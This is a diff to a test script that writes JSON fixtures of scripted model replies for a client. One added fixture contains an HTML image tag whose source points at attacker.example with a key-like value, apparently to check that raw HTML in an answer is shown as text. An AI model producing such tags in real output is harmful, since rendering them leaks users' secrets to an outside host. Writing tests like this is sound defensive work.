@@ -52,6 +52,8 @@ json.dump({"turns": ["Thinking about it " * 400], "chunk_delay_ms": 50}, open(f"
 json.dump({"turns": ["You asked a question; here is the answer: **42**."]}, open(f"{d}/ask.json", "w"))
 json.dump({"turns": [call("write_file('src/calc.py', 'def add(a, b):\\n    return a + b\\n')"), "I fixed `add`."]}, open(f"{d}/write_fix.json", "w"))
 json.dump({"turns": ["EVIL ENGINE ANSWER"]}, open(f"{d}/evil.json", "w"))
+# Raw HTML in an answer, after an inline <code> (marked passes the rest as raw): it must stay text.
+json.dump({"turns": ["If you print the key, wrap it in <code> tags: <img src=https&#58;//attacker.example/c?k=sk-live alt=\"\" "]}, open(f"{d}/html.json", "w"))
 PY
 # The user's server: the real one, with what the client sends it recorded in server-stdin.log.
 printf '#!/bin/sh\n[ "$1" = lsp ] || exec "%s" "$@"\ntee -a "%s" | exec "%s" "$@"\n' "$BIN" "$D/server-stdin.log" "$BIN" > "$D/user-punie"
